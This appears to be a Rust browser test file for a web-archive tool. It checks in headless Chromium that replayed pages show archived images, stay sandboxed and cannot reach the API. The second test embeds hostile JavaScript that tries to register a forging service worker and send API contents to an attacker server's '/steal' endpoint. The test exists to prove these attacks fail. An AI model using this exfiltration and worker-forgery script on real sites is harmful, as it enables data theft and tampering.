//! The web UI and replay in a real browser: Debian's Chromium, headless,
//! driven over the DevTools protocol by `tests/browser/cdp.py` (installed
//! by scripts/test.sh). The live site counts its requests, so "the replay
//! shows the archived image, not the live one" is checked from both ends.

use std::net::SocketAddr;
use std::process::Command;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;

use axum::http::header;
use axum::routing::get;
use axum::Router;
use serde_json::Value;

use crate::cli::{stderr_text, Workdir, QUOTE};
use crate::site;
use crate::web::{serve, token};

/// A small real PNG (solid colour), so the browser has something to decode.
fn png(width: u32, height: u32, rgb: [u8; 3]) -> Vec<u8> {
    use std::io::Write;
    // Each row: filter type 0, then the pixels.
    let row: Vec<u8> = std::iter::once(0)
        .chain(rgb.iter().copied().cycle().take(3 * width as usize))
        .collect();
    let raw = row.repeat(height as usize);
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    z.write_all(&raw).unwrap();
    let idat = z.finish().unwrap();
    let chunk = |kind: &[u8], data: &[u8]| {
        let mut c = (data.len() as u32).to_be_bytes().to_vec();
        c.extend_from_slice(kind);
        c.extend_from_slice(data);
        c.extend_from_slice(&crc32fast::hash(&[kind, data].concat()).to_be_bytes());
        c
    };
    let mut ihdr = width.to_be_bytes().to_vec();
    ihdr.extend_from_slice(&height.to_be_bytes());
    ihdr.extend_from_slice(&[8, 2, 0, 0, 0]);
    [
        &b"\x89PNG\r\n\x1a\n"[..],
        &chunk(b"IHDR", &ihdr),
        &chunk(b"IDAT", &idat),
        &chunk(b"IEND", &[]),
    ]
    .concat()
}

const PRYING_PATH: &str = "/2016/11/29/live-blog/";

/// The article with decodable images, counting every request it answers.
async fn serve_live_site() -> (SocketAddr, Arc<AtomicUsize>) {
    let hits = Arc::new(AtomicUsize::new(0));
    let mut app = Router::new().route(
        site::ARTICLE_PATH,
        get(|| async {
            (
                [(header::CONTENT_TYPE, "text/html; charset=UTF-8")],
                site::article_html(),
            )
        }),
    );
    // A page whose script tries to read custody's API when it is replayed.
    app = app.route(
        PRYING_PATH,
        get(|| async {
            (
                [(header::CONTENT_TYPE, "text/html; charset=UTF-8")],
                "<!DOCTYPE html><html><head><title>live blog</title></head><body><p>Updates</p>\
                 <script>fetch('/api/v1/captures').then(r => { document.title = 'api:' + r.status; })\
                 .catch(() => { document.title = 'api:blocked'; });</script></body></html>",
            )
        }),
    );
    for (n, (path_query, mime, body)) in site::requisites().into_iter().enumerate() {
        let path = path_query.split('?').next().unwrap_or(path_query);
        let body = if mime.starts_with("image/") {
            png(64 + n as u32, 48, [180, 30, 30])
        } else {
            body
        };
        app = app.route(
            path,
            get(move || async move { ([(header::CONTENT_TYPE, mime)], body) }),
        );
    }
    let counter = hits.clone();
    let app = app.layer(axum::middleware::from_fn(
        move |req: axum::extract::Request, next: axum::middleware::Next| {
            counter.fetch_add(1, Ordering::SeqCst);
            next.run(req)
        },
    ));
    (site::serve_app(app).await, hits)
}

#[tokio::test(flavor = "multi_thread")]
async fn in_chromium_replay_shows_the_archived_images_and_the_claim_page_highlights_the_passage() {
    let (live, hits) = serve_live_site().await;
    let work = Workdir::new("");
    let url = format!("http://{live}{}", site::ARTICLE_PATH);
    let (capture, out) = work.capture(&url);
    assert_eq!(
        capture.status,
        custody::model::CaptureStatus::Ok,
        "{}",
        stderr_text(&out)
    );
    let claim_id = work.claim_linked_to(&[&capture]);
    let prying_url = format!("http://{live}{PRYING_PATH}");
    let (prying, _) = work.capture(&prying_url);
    let server = serve(&work, &[]);
    let reader = token(&work, "reader");
    let live_hits = hits.load(Ordering::SeqCst);

    let ts = custody::model::timestamp14(&capture.started_at);
    let search_page = format!(
        "/ui/search?q={}",
        url::form_urlencoded::byte_serialize(live.to_string().as_bytes()).collect::<String>()
    );
    // Chromium signs in through the login form; the cookie then reads.
    let pages = [
        "/".to_string(),
        search_page,
        format!("/ui/captures/{}", capture.id),
        format!("/ui/claims/{claim_id}"),
        format!("/ui/timeline?url={url}"),
        "/ui/schedules".to_string(),
        "/ui/fixity".to_string(),
        format!("/replay/{ts}/{url}"),
        format!(
            "/replay/{}/{prying_url}",
            custody::model::timestamp14(&prying.started_at)
        ),
    ];
    let reports = browse_signed_in(server.addr, &reader, &pages);
    let base = format!("http://{}/", server.addr);
    for r in &reports {
        let page = r["url"].as_str().unwrap();
        for req in r["requests"].as_array().unwrap() {
            let req = req.as_str().unwrap();
            assert!(
                req.starts_with(&base) || req.starts_with("data:"),
                "{page} loaded {req} from outside the server"
            );
        }
        if page.contains("/ui/") || page.ends_with('/') && !page.contains("/replay/") {
            assert_eq!(r["console_errors"], serde_json::json!([]), "{page}");
        }
    }
    let by_path = |p: &str| {
        reports
            .iter()
            .find(|r| r["url"].as_str().unwrap().ends_with(p))
            .unwrap_or_else(|| panic!("no report for {p}"))
    };
    // Search finds the capture.
    let search = &reports[1];
    assert!(
        search["text"].as_str().unwrap().contains(&url),
        "search did not find the capture: {}",
        search["text"]
    );
    // The claim page highlights the quoted passage in the archived text.
    let claim_page = by_path(&format!("/ui/claims/{claim_id}"));
    assert_eq!(
        claim_page["marks"],
        serde_json::json!([QUOTE]),
        "{claim_page}"
    );
    // The replayed article shows its archived images.
    let replay = by_path(&format!("/replay/{ts}/{url}"));
    assert!(replay["text"].as_str().unwrap().contains("Archived copy"));
    let images = replay["images"].as_array().unwrap();
    assert!(!images.is_empty());
    for img in images {
        // Loaded with the replay grant in the path, never the cookie.
        let src = img["src"].as_str().unwrap();
        assert!(src.starts_with(&format!("{base}g/")), "{src}");
        assert!(src.contains(&format!("/replay/{ts}if_/")), "{src}");
        // 0 when it did not decode (srcset scaling makes it not exactly 64+).
        assert!(
            img["naturalWidth"].as_u64().unwrap() > 0,
            "{img} did not decode"
        );
    }
    // An archived script cannot read the API: its page is sandboxed (an
    // opaque origin), so the API is another origin it may not read.
    let prying = by_path(&format!(
        "/replay/{}/{prying_url}",
        custody::model::timestamp14(&prying.started_at)
    ));
    assert_eq!(prying["title"], "api:blocked", "{prying}");
    assert_eq!(
        hits.load(Ordering::SeqCst),
        live_hits,
        "the browser fetched from the live site during replay"
    );
}

/// Signs in through the UI's login form (the token kept in its cookie),
/// then loads `paths`; one report per page.
fn browse_signed_in(server: SocketAddr, token: &str, paths: &[String]) -> Vec<Value> {
    let chromium = ["chromium", "chromium-browser"]
        .into_iter()
        .find(|c| Command::new(c).arg("--version").output().is_ok())
        .expect("chromium not found: run the tests with scripts/test.sh, which installs it");
    let script = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/browser/cdp.py");
    let out = Command::new("python3")
        .arg(script)
        .arg(chromium)
        .args(["--login", &format!("http://{server}"), token])
        .args(paths.iter().map(|p| format!("http://{server}{p}")))
        .output()
        .expect("run cdp.py");
    assert!(out.status.success(), "cdp.py failed: {}", stderr_text(&out));
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

/// What the attacker's server received: every request's path and query.
async fn serve_attacker() -> (SocketAddr, Arc<std::sync::Mutex<Vec<String>>>) {
    let seen = Arc::new(std::sync::Mutex::new(Vec::new()));
    let log = seen.clone();
    let app = Router::new().fallback(move |uri: axum::http::Uri| {
        let log = log.clone();
        async move {
            log.lock().unwrap().push(uri.to_string());
            "<html><title>attacker</title></html>"
        }
    });
    (site::serve_app(app).await, seen)
}

/// The attacks of issue 13, from a replayed hostile page in Chromium: it
/// registers a service worker over the site's `id_` replays (which would
/// then forge another capture), and, on one click, opens the API in a
/// popup, reads it, and sends it to another server. Both fail: the page is
/// sandboxed, service worker scripts are refused, and nothing of the API
/// reaches the attacker.
#[tokio::test(flavor = "multi_thread")]
async fn in_chromium_a_hostile_replayed_page_registers_no_worker_and_reads_nothing() {
    let (attacker, stolen) = serve_attacker().await;
    let hostile = format!(
        "<!DOCTYPE html><html><head><title>hostile</title></head><body>\
         <p>Breaking: statement</p><button id=\"custody-test-click\">read more</button>\
         <script>\
         try {{\
           navigator.serviceWorker.register('/replay/id_/' + location.pathname.split('/replay/')[1].split('/').slice(1, 4).join('/') + '/sw.js')\
             .then(() => {{ document.title = 'sw:registered'; }}, e => {{ document.title = 'sw:' + e.name; }});\
         }} catch (e) {{ document.title = 'sw:' + e.name; }}\
         document.getElementById('custody-test-click').onclick = () => {{\
           let w = null;\
           try {{ w = window.open('/api/v1/captures'); }} catch (e) {{}}\
           setTimeout(() => {{\
             let t = 'none';\
             try {{ t = w.document.body.innerText; }} catch (e) {{ t = 'unreadable:' + e.name; }}\
             location = 'http://{attacker}/steal?d=' + encodeURIComponent(t);\
           }}, 1500);\
         }};\
         </script></body></html>"
    );
    let worker = "self.addEventListener('fetch', e => e.respondWith(new Response('<h1>forged by a worker</h1>', {headers: {'content-type': 'text/html'}})));";
    let app = Router::new()
        .route(
            "/hostile/",
            get(move || async move {
                (
                    [(header::CONTENT_TYPE, "text/html; charset=UTF-8")],
                    hostile,
                )
            }),
        )
        .route(
            "/sw.js",
            get(move || async move { ([(header::CONTENT_TYPE, "text/javascript")], worker) }),
        )
        .route(
            "/other/",
            get(|| async {
                (
                    [(header::CONTENT_TYPE, "text/html; charset=UTF-8")],
                    "<html><body><p>the genuine other page</p></body></html>",
                )
            }),
        );
    let live = site::serve_app(app).await;
    let work = Workdir::new("");
    let mut captured = Vec::new();
    for path in ["/hostile/", "/sw.js", "/other/"] {
        let (c, out) = work.capture(&format!("http://{live}{path}"));
        assert_eq!(
            c.status,
            custody::model::CaptureStatus::Ok,
            "{}",
            stderr_text(&out)
        );
        captured.push(c);
    }
    let server = serve(&work, &[]);
    let reader = token(&work, "reader");
    let ts = custody::model::timestamp14(&captured[0].started_at);
    let pages = [
        format!("/replay/{ts}/http://{live}/hostile/"),
        format!("/replay/id_/http://{live}/other/"),
        "/ui/fixity".to_string(),
    ];
    let reports = browse_signed_in(server.addr, &reader, &pages);

    // The worker was never registered: the page may not, and its script
    // is refused to a worker's fetch.
    let replayed = &reports[0];
    assert!(
        replayed["location"]
            .as_str()
            .unwrap()
            .starts_with(&format!("http://{attacker}/steal")),
        "the click ran: {replayed}"
    );
    let other = &reports[1];
    assert!(
        other["text"]
            .as_str()
            .unwrap()
            .contains("the genuine other page"),
        "another capture replays as archived: {other}"
    );
    let ui = &reports[2];
    assert_eq!(ui["service_workers"], serde_json::json!([]), "{ui}");
    let refused = crate::web::request(
        server.addr,
        "GET",
        &format!("/replay/id_/http://{live}/sw.js"),
        &[
            ("Service-Worker", "script"),
            ("Authorization", &format!("Bearer {reader}")),
        ],
        None,
    );
    assert_eq!(refused.status, 403, "{}", refused.text());

    // The popup never opened, so nothing of the API left.
    let stolen: Vec<String> = stolen
        .lock()
        .unwrap()
        .iter()
        .filter(|r| r.starts_with("/steal"))
        .cloned()
        .collect();
    assert_eq!(stolen.len(), 1, "{stolen:?}");
    assert!(
        stolen[0].contains("unreadable") || stolen[0].ends_with("d=none"),
        "the attacker received: {stolen:?}"
    );
    for c in &captured {
        assert!(!stolen[0].contains(c.id.as_str()), "{stolen:?}");
    }
}
